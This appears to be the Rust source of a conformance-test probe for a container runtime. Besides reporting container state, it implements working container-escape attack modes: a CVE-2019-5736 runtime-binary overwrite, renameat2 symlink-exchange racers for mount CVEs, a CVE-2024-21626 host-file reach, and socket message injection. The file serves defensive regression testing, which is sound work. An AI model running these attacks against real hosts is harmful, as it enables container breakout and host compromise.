//! `rrun-checker`: the process the conformance runner puts inside each test
//! container. It reports what the container looks like *from the inside* as
//! JSON, so the runner can compare it with the config it wrote.
//!
//! It is built statically (the test rootfs is busybox, with no libc) and uses
//! only std, libc and serde_json.
//!
//! Modes:
//! * `report [path:P]... [read:P]... [sysctl:NAME]... [out:FILE]`
//! * `exit N`: exit with status N
//! * `sleep [SECONDS]`: sleep (forever without an argument)
//! * `overwrite-exe PID`: the CVE-2019-5736 attacker (see [`overwrite_exe`])
//! * `syscall [catch-sigsys] CALL [ARG]... [-- CALL [ARG]...]...`: raw
//!   system calls for the seccomp cases (see [`syscall_mode`])
//! * `swap STOP SECS A B [A B]...`: the symlink-exchange racer of the
//!   mount CVEs (see [`swap_mode`])
//! * `race-exe STOP SECS`: the CVE-2019-5736 attacker of `exec` (see
//!   [`race_exe_mode`])
//! * `inject MODE STOP SECS`: writes hostile messages into the sockets of
//!   the runtime's processes it can reach (see [`inject_mode`])

use serde_json::{json, Map, Value};
use std::ffi::CString;
use std::fs;
use std::io::{Read, Write};
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::os::unix::io::AsRawFd;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let mode = args.get(1).map(String::as_str).unwrap_or("report");
    let rest = args.get(2..).unwrap_or(&[]);
    match mode {
        "report" => report_mode(&args, rest),
        "exit" => std::process::exit(rest.first().and_then(|s| s.parse().ok()).unwrap_or(0)),
        "sleep" => sleep_mode(rest),
        "overwrite-exe" => overwrite_exe(rest.first().map(String::as_str).unwrap_or("1")),
        "syscall" => syscall_mode(rest),
        "swap" => swap_mode(rest),
        "race-exe" => race_exe_mode(rest),
        "inject" => inject_mode(rest),
        other => {
            eprintln!("rrun-checker: unknown mode {other:?}");
            std::process::exit(2);
        }
    }
}

fn sleep_mode(rest: &[String]) {
    let secs: u64 = rest
        .first()
        .and_then(|s| s.parse().ok())
        .unwrap_or(u64::MAX / 4);
    std::thread::sleep(std::time::Duration::from_secs(secs));
}

fn report_mode(argv: &[String], rest: &[String]) {
    // The fd listing comes first, before this process opens anything else.
    let fds = open_fds();
    let mut out_file = None;
    let mut paths = Map::new();
    let mut files = Map::new();
    let mut sysctls = Map::new();
    let mut reach = Map::new();
    let mut stats = Map::new();
    for arg in rest {
        if let Some(p) = arg.strip_prefix("path:") {
            paths.insert(p.to_string(), probe_path(p));
        } else if let Some(p) = arg.strip_prefix("read:") {
            files.insert(
                p.to_string(),
                read_text(p).map_or(Value::Null, Value::String),
            );
        } else if let Some(n) = arg.strip_prefix("sysctl:") {
            let file = format!("/proc/sys/{}", n.replace('.', "/"));
            let value = read_text(&file).map(|s| s.trim().to_string());
            sysctls.insert(n.to_string(), value.map_or(Value::Null, Value::String));
        } else if let Some(p) = arg.strip_prefix("out:") {
            out_file = Some(p.to_string());
        } else if let Some(p) = arg.strip_prefix("reach:") {
            reach.insert(p.to_string(), reach_up(p));
        } else if let Some(p) = arg.strip_prefix("stat:") {
            stats.insert(p.to_string(), stat_path(p));
        }
    }
    let status = proc_status();
    let report = json!({
        "argv": argv,
        "pid": std::process::id(),
        "ns": namespaces(),
        "mounts": mountinfo(),
        "hostname": uname_field(|u| &u.nodename),
        "domainname": uname_field(|u| &u.domainname),
        "uid": ids(&status, "Uid"),
        "gid": ids(&status, "Gid"),
        "groups": ids(&status, "Groups"),
        "caps": caps(&status),
        "no_new_privs": status.get("NoNewPrivs").and_then(|v| v.parse::<u64>().ok()),
        "umask": status.get("Umask").cloned(),
        "rlimits": rlimits(),
        "env": std::env::vars_os().map(|(k, v)| format!("{}={}", k.to_string_lossy(), v.to_string_lossy())).collect::<Vec<_>>(),
        "cwd": std::env::current_dir().map(|p| p.display().to_string()).ok(),
        "dev": dev_entries(),
        "paths": paths,
        "files": files,
        "sysctl": sysctls,
        "reach": reach,
        "stat": stats,
        "oom_score_adj": read_text("/proc/self/oom_score_adj").and_then(|s| s.trim().parse::<i64>().ok()),
        "fds": fds,
        "uid_map": read_text("/proc/self/uid_map"),
        "gid_map": read_text("/proc/self/gid_map"),
        "cgroup": read_text("/proc/self/cgroup"),
        "isatty": (0..3).map(|fd| {
            // SAFETY: isatty only inspects the fd number; any value is allowed.
            unsafe { libc::isatty(fd) == 1 }
        }).collect::<Vec<_>>(),
    });
    let text = serde_json::to_string(&report).unwrap_or_default() + "\n";
    match out_file {
        Some(path) => {
            if let Err(e) = fs::write(&path, text) {
                eprintln!("rrun-checker: write {path}: {e}");
                std::process::exit(1);
            }
        }
        None => {
            let _ = std::io::stdout().write_all(text.as_bytes());
        }
    }
}

fn read_text(path: &str) -> Option<String> {
    fs::read(path)
        .ok()
        .map(|b| String::from_utf8_lossy(&b).into_owned())
}

fn errno_of(e: &std::io::Error) -> i32 {
    e.raw_os_error().unwrap_or(-1)
}

/// Readable? writable (and which errno if not)? empty?
fn probe_path(path: &str) -> Value {
    let meta = match fs::symlink_metadata(path) {
        Ok(m) => m,
        Err(e) => return json!({"exists": false, "errno": errno_of(&e)}),
    };
    if meta.is_dir() {
        let (readable, empty, read_errno) = match fs::read_dir(path) {
            Ok(mut it) => (true, it.next().is_none(), 0),
            Err(e) => (false, false, errno_of(&e)),
        };
        let probe = format!("{path}/.rrun-checker-probe-{}", std::process::id());
        let (writable, write_errno) = match fs::create_dir(&probe) {
            Ok(()) => {
                let _ = fs::remove_dir(&probe);
                (true, 0)
            }
            Err(e) => (false, errno_of(&e)),
        };
        return json!({"exists": true, "is_dir": true, "readable": readable, "read_errno": read_errno,
            "empty": empty, "writable": writable, "write_errno": write_errno});
    }
    let (readable, empty, read_errno) = match fs::File::open(path) {
        Ok(mut f) => {
            let mut buf = [0u8; 4096];
            match f.read(&mut buf) {
                Ok(n) => (true, n == 0, 0),
                Err(e) => (false, false, errno_of(&e)),
            }
        }
        Err(e) => (false, false, errno_of(&e)),
    };
    // Opening for writing is the probe: nothing is ever written.
    let (writable, write_errno) = match fs::OpenOptions::new().write(true).open(path) {
        Ok(_) => (true, 0),
        Err(e) => (false, errno_of(&e)),
    };
    json!({"exists": true, "is_dir": false, "readable": readable, "read_errno": read_errno,
        "empty": empty, "writable": writable, "write_errno": write_errno})
}

fn namespaces() -> Value {
    let mut map = Map::new();
    for ns in [
        "cgroup",
        "ipc",
        "mnt",
        "net",
        "pid",
        "pid_for_children",
        "time",
        "time_for_children",
        "user",
        "uts",
    ] {
        let link = fs::read_link(format!("/proc/self/ns/{ns}")).ok();
        let inode = link.and_then(|l| {
            let s = l.to_string_lossy().into_owned();
            s.split('[')
                .nth(1)?
                .trim_end_matches(']')
                .parse::<u64>()
                .ok()
        });
        map.insert(ns.to_string(), json!(inode));
    }
    Value::Object(map)
}

/// /proc/self/mountinfo, one object per line (proc(5) field layout).
fn mountinfo() -> Value {
    let text = read_text("/proc/self/mountinfo").unwrap_or_default();
    let mounts: Vec<Value> = text
        .lines()
        .filter_map(|line| {
            let (left, right) = line.split_once(" - ")?;
            let l: Vec<&str> = left.split(' ').collect();
            let r: Vec<&str> = right.split(' ').collect();
            Some(json!({
                "id": l.first()?.parse::<u64>().ok()?,
                "parent": l.get(1)?.parse::<u64>().ok()?,
                "root": unescape(l.get(3)?),
                "mount_point": unescape(l.get(4)?),
                "options": l.get(5)?,
                "optional": l.get(6..).unwrap_or(&[]).join(" "),
                "fstype": r.first()?,
                "source": r.get(1).copied().unwrap_or(""),
                "super_options": r.get(2).copied().unwrap_or(""),
            }))
        })
        .collect();
    Value::Array(mounts)
}

/// mountinfo escapes space, tab, newline and backslash as octal `\NNN`.
fn unescape(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'\\' && i + 3 < bytes.len() {
            if let Ok(v) = u8::from_str_radix(&s[i + 1..i + 4], 8) {
                out.push(v);
                i += 4;
                continue;
            }
        }
        out.push(bytes[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

struct Uname {
    nodename: String,
    domainname: String,
}

fn uname_field(pick: fn(&Uname) -> &String) -> Option<String> {
    // SAFETY: utsname is plain old data; zeroed is a valid value.
    let mut u: libc::utsname = unsafe { std::mem::zeroed() };
    // SAFETY: u is a valid, writable utsname.
    if unsafe { libc::uname(&mut u) } != 0 {
        return None;
    }
    let field = |chars: &[libc::c_char]| {
        let bytes: Vec<u8> = chars
            .iter()
            .take_while(|c| **c != 0)
            .map(|c| *c as u8)
            .collect();
        String::from_utf8_lossy(&bytes).into_owned()
    };
    let un = Uname {
        nodename: field(&u.nodename),
        domainname: field(&u.domainname),
    };
    Some(pick(&un).clone())
}

fn proc_status() -> std::collections::HashMap<String, String> {
    read_text("/proc/self/status")
        .unwrap_or_default()
        .lines()
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.to_string(), v.trim().to_string()))
        .collect()
}

fn ids(status: &std::collections::HashMap<String, String>, key: &str) -> Value {
    let list: Vec<u64> = status
        .get(key)
        .map(|v| {
            v.split_whitespace()
                .filter_map(|x| x.parse().ok())
                .collect()
        })
        .unwrap_or_default();
    json!(list)
}

fn caps(status: &std::collections::HashMap<String, String>) -> Value {
    let mut map = Map::new();
    for key in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        let v = status
            .get(key)
            .and_then(|h| u64::from_str_radix(h, 16).ok());
        map.insert(key.to_string(), json!(v));
    }
    Value::Object(map)
}

fn rlimits() -> Value {
    let all = [
        ("RLIMIT_AS", libc::RLIMIT_AS),
        ("RLIMIT_CORE", libc::RLIMIT_CORE),
        ("RLIMIT_CPU", libc::RLIMIT_CPU),
        ("RLIMIT_DATA", libc::RLIMIT_DATA),
        ("RLIMIT_FSIZE", libc::RLIMIT_FSIZE),
        ("RLIMIT_LOCKS", libc::RLIMIT_LOCKS),
        ("RLIMIT_MEMLOCK", libc::RLIMIT_MEMLOCK),
        ("RLIMIT_MSGQUEUE", libc::RLIMIT_MSGQUEUE),
        ("RLIMIT_NICE", libc::RLIMIT_NICE),
        ("RLIMIT_NOFILE", libc::RLIMIT_NOFILE),
        ("RLIMIT_NPROC", libc::RLIMIT_NPROC),
        ("RLIMIT_RSS", libc::RLIMIT_RSS),
        ("RLIMIT_RTPRIO", libc::RLIMIT_RTPRIO),
        ("RLIMIT_RTTIME", libc::RLIMIT_RTTIME),
        ("RLIMIT_SIGPENDING", libc::RLIMIT_SIGPENDING),
        ("RLIMIT_STACK", libc::RLIMIT_STACK),
    ];
    let mut map = Map::new();
    for (name, resource) in all {
        let mut lim = libc::rlimit {
            rlim_cur: 0,
            rlim_max: 0,
        };
        // SAFETY: lim is a valid, writable rlimit; resource is a known constant.
        if unsafe { libc::getrlimit(resource, &mut lim) } == 0 {
            map.insert(name.to_string(), json!([lim.rlim_cur, lim.rlim_max]));
        }
    }
    Value::Object(map)
}

fn dev_entries() -> Value {
    let mut out = Vec::new();
    let mut names: Vec<String> = fs::read_dir("/dev")
        .map(|it| {
            it.filter_map(|e| e.ok())
                .map(|e| format!("/dev/{}", e.file_name().to_string_lossy()))
                .collect()
        })
        .unwrap_or_default();
    names.push("/dev/pts/ptmx".to_string());
    names.sort();
    for path in names {
        let Ok(meta) = fs::symlink_metadata(&path) else {
            continue;
        };
        let ft = meta.file_type();
        let kind = if ft.is_symlink() {
            "l"
        } else if ft.is_char_device() {
            "c"
        } else if ft.is_block_device() {
            "b"
        } else if ft.is_fifo() {
            "p"
        } else if ft.is_dir() {
            "d"
        } else if ft.is_socket() {
            "s"
        } else {
            "f"
        };
        let rdev = meta.rdev();
        out.push(json!({
            "path": path,
            "kind": kind,
            "major": libc::major(rdev),
            "minor": libc::minor(rdev),
            "mode": meta.mode() & 0o7777,
            "uid": meta.uid(),
            "gid": meta.gid(),
            "link": fs::read_link(&path).ok().map(|l| l.display().to_string()),
        }));
    }
    Value::Array(out)
}

/// Open fds with their link targets, without the directory fd used to list them.
fn open_fds() -> Value {
    let own_dir = format!("/proc/{}/fd", std::process::id());
    let mut map = Map::new();
    if let Ok(it) = fs::read_dir("/proc/self/fd") {
        for entry in it.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            let target = fs::read_link(entry.path())
                .map(|t| t.display().to_string())
                .unwrap_or_default();
            if target == own_dir {
                continue;
            }
            map.insert(name, Value::String(target));
        }
    }
    Value::Object(map)
}

/// The CVE-2019-5736 attacker, run by the runner with nsenter inside the
/// container's namespaces while the runtime's init waits there.
///
/// Phase 1 (init still waiting): open `/proc/PID/exe` O_PATH and keep the fd;
/// try to open it for writing directly and through `/proc/self/fd/N`.
/// Phase 2 (after one byte arrives on stdin: the runner has started the
/// container, so the runtime image has exec'd away): try again, and write.
/// Prints a JSON list of attempts; `write_succeeded` is the verdict.
fn overwrite_exe(pid: &str) {
    let exe = format!("/proc/{pid}/exe");
    let mut attempts = Vec::new();
    let c_exe = CString::new(exe.as_bytes()).unwrap_or_default();
    // SAFETY: c_exe is a valid NUL-terminated path; O_PATH opens nothing for I/O.
    let path_fd = unsafe { libc::open(c_exe.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
    let path_errno = if path_fd < 0 { last_errno() } else { 0 };
    attempts.push(json!({"phase": 1, "what": "open O_PATH", "path": exe, "ok": path_fd >= 0, "errno": path_errno}));
    let via_fd = format!("/proc/self/fd/{path_fd}");
    try_write_attempts(1, &[&exe, &via_fd], path_fd >= 0, &mut attempts);
    println!("{}", json!({"ready": true}));
    let _ = std::io::stdout().flush();
    let mut byte = [0u8; 1];
    let _ = std::io::stdin().read(&mut byte);
    try_write_attempts(2, &[&exe, &via_fd], path_fd >= 0, &mut attempts);
    let write_succeeded = attempts
        .iter()
        .any(|a| a["what"] == "write" && a["ok"] == true);
    println!(
        "{}",
        json!({"attempts": attempts, "write_succeeded": write_succeeded})
    );
}

fn last_errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(-1)
}

fn try_write_attempts(phase: u32, paths: &[&str], have_fd: bool, attempts: &mut Vec<Value>) {
    for (i, path) in paths.iter().enumerate() {
        if i > 0 && !have_fd {
            continue;
        }
        match fs::OpenOptions::new().append(true).open(path) {
            Ok(mut f) => {
                attempts.push(json!({"phase": phase, "what": "open O_WRONLY", "path": path, "ok": true, "errno": 0}));
                // Append-style write at the end: a successful attack is proven
                // without destroying the image's existing bytes.
                let res = f
                    .write_all(b"#rrun-conformance-overwrite#")
                    .and_then(|_| f.flush());
                let errno = res.as_ref().err().map_or(0, errno_of);
                attempts.push(json!({"phase": phase, "what": "write", "path": path, "fd": f.as_raw_fd(), "ok": res.is_ok(), "errno": errno}));
            }
            Err(e) => {
                attempts.push(json!({"phase": phase, "what": "open O_WRONLY", "path": path, "ok": false, "errno": errno_of(&e)}));
            }
        }
    }
}

/// One raw system call asked for on the command line.
struct RawCall {
    abi: Abi,
    nr: u64,
    args: [u64; 6],
}

#[derive(Clone, Copy, PartialEq)]
enum Abi {
    /// `syscall` instruction from this thread (x86_64; x32 with nr | 0x40000000).
    Native,
    /// `int 0x80`: the 32-bit x86 ABI, seen by seccomp as AUDIT_ARCH_I386.
    I386,
    /// The native call from a second thread, to tell KILL_THREAD from KILL_PROCESS.
    Thread,
}

/// `syscall [catch-sigsys] CALL [ARG]... [-- CALL ...]...`, CALL being
/// `NR`, `i386:NR` or `thread:NR`, numbers decimal or 0x hex. Prints one
/// JSON line per call, `{"ret":R,"errno":E}` (plus `"sigsys":si_code` of a
/// caught SIGSYS with `catch-sigsys`, `{"thread_killed":true}` when the
/// calling thread died), flushed before the next call so a call that kills
/// the process leaves the earlier lines; then one line with the seccomp
/// fields of /proc/self/status. Exits 0; a bad argument exits 2.
fn syscall_mode(rest: &[String]) {
    let (catch, rest) = match rest.first().map(String::as_str) {
        Some("catch-sigsys") => (true, &rest[1..]),
        _ => (false, rest),
    };
    let calls = match parse_calls(rest) {
        Ok(calls) => calls,
        Err(e) => {
            eprintln!("rrun-checker syscall: {e}");
            std::process::exit(2);
        }
    };
    if catch {
        catch_sigsys();
    }
    for call in &calls {
        SIGSYS_CODE.store(0, std::sync::atomic::Ordering::SeqCst);
        let mut line = match call.abi {
            Abi::Thread => call_in_thread(call),
            _ => call_result(call),
        };
        if catch {
            line["sigsys"] = json!(SIGSYS_CODE.load(std::sync::atomic::Ordering::SeqCst));
        }
        print_flushed(&line);
    }
    let status = proc_status();
    let field = |k: &str| json!(status.get(k));
    print_flushed(&json!({
        "seccomp": field("Seccomp"),
        "seccomp_filters": field("Seccomp_filters"),
        "no_new_privs": field("NoNewPrivs"),
    }));
}

fn print_flushed(line: &Value) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{line}");
    let _ = out.flush();
}

fn parse_calls(words: &[String]) -> Result<Vec<RawCall>, String> {
    words
        .split(|w| w == "--")
        .map(|group| {
            let (first, args) = group.split_first().ok_or("empty call")?;
            let (abi, nr) = match first.split_once(':') {
                Some(("i386", nr)) => (Abi::I386, nr),
                Some(("thread", nr)) => (Abi::Thread, nr),
                Some((other, _)) => return Err(format!("unknown ABI {other:?}")),
                None => (Abi::Native, first.as_str()),
            };
            if args.len() > 6 {
                return Err(format!("{} arguments, at most 6", args.len()));
            }
            let mut values = [0u64; 6];
            for (slot, arg) in values.iter_mut().zip(args) {
                *slot = parse_number(arg)?;
            }
            Ok(RawCall {
                abi,
                nr: parse_number(nr)?,
                args: values,
            })
        })
        .collect()
}

fn parse_number(s: &str) -> Result<u64, String> {
    let parsed = match s.strip_prefix("0x") {
        Some(hex) => u64::from_str_radix(hex, 16),
        None => s.parse(),
    };
    parsed.map_err(|e| format!("{s:?}: {e}"))
}

fn call_result(call: &RawCall) -> Value {
    let (ret, errno) = match call.abi {
        Abi::I386 => int80(call),
        _ => native_call(call),
    };
    json!({"ret": ret, "errno": errno})
}

/// The raw call through libc::syscall: (return value, errno or 0).
fn native_call(call: &RawCall) -> (i64, i32) {
    let a = call.args;
    // SAFETY: errno is thread-local and writable; clearing it lets a TRAP
    // (which returns the syscall number, not -1) be told from a failure.
    unsafe { *libc::__errno_location() = 0 };
    // SAFETY: the runner asks only for calls that take numbers (getpriority,
    // getppid...), never pointers, so no memory of ours is touched whatever
    // the arguments are.
    let ret = unsafe { libc::syscall(call.nr as libc::c_long, a[0], a[1], a[2], a[3], a[4], a[5]) };
    (ret, if ret == -1 { last_errno() } else { 0 })
}

/// The 32-bit x86 ABI: `int 0x80` with eax = nr and ebx..ebp = args. The
/// kernel returns -errno in eax.
fn int80(call: &RawCall) -> (i64, i32) {
    let a = call.args.map(|v| v as u32);
    let mut eax = call.nr as u32;
    // SAFETY: int 0x80 with number arguments only (see native_call); rbx
    // and rbp cannot be named as asm operands, so they are swapped in and
    // restored around the instruction; the kernel preserves the other
    // registers of a 32-bit syscall except r8-r11, declared clobbered.
    unsafe {
        std::arch::asm!(
            "xchg {b:r}, rbx",
            "xchg {p:r}, rbp",
            "int 0x80",
            "xchg {p:r}, rbp",
            "xchg {b:r}, rbx",
            b = inout(reg) u64::from(a[0]) => _,
            p = inout(reg) u64::from(a[5]) => _,
            inout("eax") eax,
            in("ecx") a[1],
            in("edx") a[2],
            in("esi") a[3],
            in("edi") a[4],
            // Older kernels clear r8-r11 on a compat syscall from 64-bit code.
            out("r8") _,
            out("r9") _,
            out("r10") _,
            out("r11") _,
        );
    }
    let ret = i64::from(eax as i32);
    if (-4095..0).contains(&ret) {
        (-1, -ret as i32)
    } else {
        (ret, 0)
    }
}

/// Makes the call from a second thread and waits for it to return or die
/// (KILL_THREAD ends only that thread). The thread is never joined: std's
/// join would panic on a thread that vanished without a result.
fn call_in_thread(call: &RawCall) -> Value {
    use std::sync::atomic::{AtomicI32, Ordering};
    use std::sync::{Arc, Mutex};
    let tid = Arc::new(AtomicI32::new(0));
    let result = Arc::new(Mutex::new(None));
    let native = RawCall {
        abi: Abi::Native,
        nr: call.nr,
        args: call.args,
    };
    let (tid2, result2) = (tid.clone(), result.clone());
    let spawned = std::thread::Builder::new().spawn(move || {
        // SAFETY: gettid has no arguments and cannot fail.
        tid2.store(unsafe { libc::gettid() }, Ordering::SeqCst);
        let line = call_result(&native);
        if let Ok(mut slot) = result2.lock() {
            *slot = Some(line);
        }
    });
    if let Err(e) = spawned {
        return json!({"spawn_error": e.to_string()});
    }
    for _ in 0..2000 {
        if let Some(line) = result.lock().ok().and_then(|r| r.clone()) {
            return line;
        }
        let t = tid.load(Ordering::SeqCst);
        if t != 0 && fs::metadata(format!("/proc/self/task/{t}")).is_err() {
            // Gone without a result; a last look covers the thread that
            // stored its result and exited between the two checks.
            return result
                .lock()
                .ok()
                .and_then(|r| r.clone())
                .unwrap_or_else(|| json!({"thread_killed": true}));
        }
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
    json!({"thread_stuck": true})
}

/// si_code of the last SIGSYS (SYS_SECCOMP = 1), 0 if none.
static SIGSYS_CODE: std::sync::atomic::AtomicI32 = std::sync::atomic::AtomicI32::new(0);

extern "C" fn on_sigsys(_sig: libc::c_int, info: *mut libc::siginfo_t, _ctx: *mut libc::c_void) {
    // SAFETY: the kernel hands an SA_SIGINFO handler a valid siginfo.
    let code = unsafe { (*info).si_code };
    SIGSYS_CODE.store(code, std::sync::atomic::Ordering::SeqCst);
}

/// SIGSYS from SCMP_ACT_TRAP is caught (KILL* cannot be): the call then
/// returns and the line shows `sigsys`.
fn catch_sigsys() {
    // SAFETY: sigaction is plain old data; zeroed is a valid empty mask.
    let mut act: libc::sigaction = unsafe { std::mem::zeroed() };
    act.sa_sigaction = on_sigsys as *const () as usize;
    act.sa_flags = libc::SA_SIGINFO;
    // SAFETY: act is a valid sigaction whose handler only stores to an atomic.
    unsafe { libc::sigaction(libc::SIGSYS, &act, std::ptr::null_mut()) };
}

/// `reach:P`: can this process read the host file `P` from where it
/// stands? Tries `P` itself and `P` below `..` repeated 0 to 40 times
/// from the cwd: from a cwd outside the container's root (CVE-2024-21626)
/// the `..` walk ends at the host's `/`. Only reads.
fn reach_up(host_path: &str) -> Value {
    let relative = host_path.trim_start_matches('/');
    let mut candidates = vec![host_path.to_string()];
    candidates.extend((0..=40).map(|k| format!("{}{relative}", "../".repeat(k))));
    for candidate in candidates {
        if let Some(content) = read_text(&candidate) {
            return json!({"reached": true, "via": candidate, "content": content});
        }
    }
    json!({"reached": false})
}

/// `stat:P`: what `P` is, without opening it for I/O: the link itself
/// (`lkind`), and what it resolves to (type, device numbers, inode, the
/// filesystem's magic).
fn stat_path(path: &str) -> Value {
    let lkind = match fs::symlink_metadata(path) {
        Ok(m) => kind_of(m.file_type()),
        Err(e) => return json!({"exists": false, "errno": errno_of(&e)}),
    };
    let meta = match fs::metadata(path) {
        Ok(m) => m,
        Err(e) => return json!({"exists": true, "lkind": lkind, "errno": errno_of(&e)}),
    };
    let c_path = CString::new(path).unwrap_or_default();
    // SAFETY: statfs is plain old data; zeroed is a valid value.
    let mut sfs: libc::statfs = unsafe { std::mem::zeroed() };
    // SAFETY: a NUL-terminated path and a writable statfs.
    let fstype = if unsafe { libc::statfs(c_path.as_ptr(), &mut sfs) } == 0 {
        json!(format!("{:#x}", sfs.f_type))
    } else {
        Value::Null
    };
    json!({
        "exists": true,
        "lkind": lkind,
        "kind": kind_of(meta.file_type()),
        "rdev": [libc::major(meta.rdev()), libc::minor(meta.rdev())],
        "dev": meta.dev(),
        "ino": meta.ino(),
        "fstype": fstype,
    })
}

fn kind_of(ft: fs::FileType) -> &'static str {
    if ft.is_symlink() {
        "l"
    } else if ft.is_char_device() {
        "c"
    } else if ft.is_block_device() {
        "b"
    } else if ft.is_fifo() {
        "p"
    } else if ft.is_dir() {
        "d"
    } else if ft.is_socket() {
        "s"
    } else {
        "f"
    }
}

/// The common loop of the attackers: run `step` until the file `stop`
/// exists or `secs` seconds passed (a bound in case the runner is gone).
/// `step` returns how much work it did; the stop file is looked at every
/// 64 steps (a stat per step would slow the race down).
fn until_stopped(stop: &str, secs: u64, mut step: impl FnMut()) -> bool {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    let mut n = 0u64;
    loop {
        step();
        n += 1;
        if n.is_multiple_of(64) {
            if fs::symlink_metadata(stop).is_ok() {
                return true;
            }
            if std::time::Instant::now() > deadline {
                return false;
            }
        }
    }
}

fn attacker_args(rest: &[String], what: &str) -> (String, u64) {
    let stop = rest.first().cloned().unwrap_or_else(|| {
        eprintln!("rrun-checker {what}: STOP SECS ...");
        std::process::exit(2)
    });
    let secs = rest.get(1).and_then(|s| s.parse().ok()).unwrap_or(60);
    (stop, secs)
}

/// `swap STOP SECS A B [A B]...`: exchanges each pair of paths with
/// renameat2(RENAME_EXCHANGE), over and over, until `STOP` exists: the
/// racer in a volume shared with the victim (CVE-2021-30465,
/// CVE-2024-45310, CVE-2023-27561, CVE-2025-31133, CVE-2025-52565).
/// Prints `{"ready":true}` first and `{"swaps":N,"errors":{errno:n}}` last.
fn swap_mode(rest: &[String]) {
    let (stop, secs) = attacker_args(rest, "swap");
    let pairs: Vec<(CString, CString)> = rest
        .get(2..)
        .unwrap_or(&[])
        .chunks(2)
        .filter(|c| c.len() == 2)
        .map(|c| {
            (
                CString::new(c[0].as_str()).unwrap_or_default(),
                CString::new(c[1].as_str()).unwrap_or_default(),
            )
        })
        .collect();
    print_flushed(&json!({"ready": true, "pairs": pairs.len()}));
    let mut swaps = 0u64;
    let mut errors: std::collections::BTreeMap<i32, u64> = Default::default();
    const RENAME_EXCHANGE: libc::c_uint = 2;
    let stopped = until_stopped(&stop, secs, || {
        for (a, b) in &pairs {
            // SAFETY: two NUL-terminated paths; renameat2 only reads them.
            let ret = unsafe {
                libc::syscall(
                    libc::SYS_renameat2,
                    libc::AT_FDCWD,
                    a.as_ptr(),
                    libc::AT_FDCWD,
                    b.as_ptr(),
                    RENAME_EXCHANGE,
                )
            };
            if ret == 0 {
                swaps += 1;
            } else {
                *errors.entry(last_errno()).or_default() += 1;
            }
        }
    });
    print_flushed(&json!({"swaps": swaps, "errors": errors, "stopped": stopped}));
}

/// `race-exe STOP SECS`: the CVE-2019-5736 attacker against `exec`, run as
/// the container's process. Watches /proc for every process that enters
/// the container, opens its /proc/PID/exe with O_PATH (the runtime's
/// image while the runtime works there) and tries to reopen that for
/// writing through /proc/self/fd/N; keeps the handles of images that are
/// not the container's own and tries them again once `STOP` exists (the
/// runtime has exited by then). A write that gets through only appends a
/// marker. Prints `{"ready":true}` first, then the verdict.
fn race_exe_mode(rest: &[String]) {
    let (stop, secs) = attacker_args(rest, "race-exe");
    let own = std::process::id();
    let mut seen = std::collections::HashSet::new();
    let mut kept: Vec<(u32, i32, String)> = Vec::new();
    let mut links: std::collections::BTreeMap<String, u64> = Default::default();
    let mut open_errnos: std::collections::BTreeMap<i32, u64> = Default::default();
    let mut write_errnos: std::collections::BTreeMap<i32, u64> = Default::default();
    let mut write_ok = Vec::new();
    print_flushed(&json!({"ready": true}));
    let mut try_write = |fd: i32, what: &str, errnos: &mut std::collections::BTreeMap<i32, u64>| {
        match fs::OpenOptions::new()
            .append(true)
            .open(format!("/proc/self/fd/{fd}"))
        {
            Ok(mut f) => match f.write_all(b"#rrun-conformance-overwrite#") {
                Ok(()) => write_ok.push(what.to_string()),
                Err(e) => *errnos.entry(errno_of(&e)).or_default() += 1,
            },
            Err(e) => *errnos.entry(errno_of(&e)).or_default() += 1,
        }
    };
    until_stopped(&stop, secs, || {
        let Ok(dir) = fs::read_dir("/proc") else {
            return;
        };
        for entry in dir.flatten() {
            let Some(pid) = entry
                .file_name()
                .to_str()
                .and_then(|s| s.parse::<u32>().ok())
            else {
                continue;
            };
            if pid == own || !seen.insert(pid) {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            let link = fs::read_link(&exe)
                .map(|l| l.display().to_string())
                .unwrap_or_else(|e| format!("errno {}", errno_of(&e)));
            let c_exe = CString::new(exe.as_bytes()).unwrap_or_default();
            // SAFETY: a NUL-terminated path; O_PATH opens nothing for I/O.
            let fd = unsafe { libc::open(c_exe.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
            if fd < 0 {
                *open_errnos.entry(last_errno()).or_default() += 1;
                *links.entry(link).or_default() += 1;
                continue;
            }
            try_write(fd, &link, &mut write_errnos);
            let ours = link.ends_with("/checker") || link.ends_with("/busybox");
            if !ours && kept.len() < 256 {
                kept.push((pid, fd, link.clone()));
            } else {
                // SAFETY: our own fd, closed once.
                unsafe { libc::close(fd) };
            }
            *links.entry(link).or_default() += 1;
        }
    });
    let mut after_errnos = Default::default();
    for (_, fd, link) in &kept {
        try_write(*fd, link, &mut after_errnos);
    }
    print_flushed(&json!({
        "processes": seen.len(),
        "links": links,
        "open_errnos": open_errnos,
        "write_errnos": write_errnos,
        "kept": kept.len(),
        "after_exit_errnos": after_errnos,
        "write_succeeded": !write_ok.is_empty(),
        "written": write_ok,
    }));
}

/// `inject MODE STOP SECS`: run in a container whose pid namespace
/// another container's runtime processes join, with CAP_SYS_PTRACE (a
/// pod's shared pid namespace). Every new process it sees gets its
/// socket fds 3..64 duplicated with pidfd_getfd(2) (the runtime's
/// channel to its caller and the console socket, while the runtime sets
/// the container up), and MODE written into each:
/// * `garbage`: 64 KiB of 0xff bytes;
/// * `oversized`: a frame length of 2 GiB, nothing after it;
/// * `partial`: a 16 MiB frame length and 100 bytes, the socket held open;
/// * `fd-zero`: one message carrying an fd of /dev/zero (a "pty master"
///   that never ends);
/// * `many-fds`: one message carrying 250 fds of /dev/null.
///
/// Flags after a comma: `late` waits 1 ms after it finds a process (the
/// caller is then past its first message and reads the setup's), `rest`
/// spares the process's lowest socket (the runtime's channel: the others,
/// the console socket, get the attack alone). The duplicates stay open
/// until `STOP` exists. Prints `{"ready":true}` first and what it did last.
